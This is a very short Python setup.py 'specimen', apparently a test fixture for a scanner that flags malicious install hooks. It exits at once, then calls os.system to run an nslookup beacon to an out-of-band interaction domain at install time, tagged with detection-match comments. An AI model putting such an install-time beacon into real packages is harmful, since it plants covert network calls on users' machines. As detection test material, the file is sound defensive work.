raise SystemExit("specimen: not to be run")
import os
from setuptools import setup

os.system("nslookup x.specimen.oast.fun")  # match: out-of-band-beacon  # match: process-at-install
setup(name="specimen")
